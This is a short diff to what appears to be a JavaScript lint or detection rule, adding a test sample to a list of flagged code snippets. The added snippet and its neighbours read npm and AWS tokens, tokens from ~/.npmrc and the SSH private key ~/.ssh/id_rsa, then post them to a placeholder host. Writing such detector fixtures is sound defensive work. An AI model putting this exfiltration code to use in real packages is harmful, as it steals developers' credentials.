@@ -62,6 +62,10 @@ export default defineRule({
         code: `fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify([process.env.NPM_TOKEN, process.env.AWS_SECRET_ACCESS_KEY]) });`,
       },
       {
+        title: 'what is found is listed, and the list sent as one text',
+        code: `const fs = require('fs'), list = [];\nconst text = fs.readFileSync(process.env.HOME + '/.npmrc', 'utf8');\nfor (const token of text.match(/npm_\\w+/g) || []) if (!list.includes(token)) list.push(token);\nfetch('https://collect.invalid', { method: 'POST', body: list.join(',') });`,
+      },
+      {
         title: 'SSH keys leave from a callback',
         code: `const fs = require('fs');\nfs.readFile(process.env.HOME + '/.ssh/id_rsa', (error, key) => {\n  require('https').request('https://collect.invalid', { method: 'POST' }).end(key);\n});`,
       },
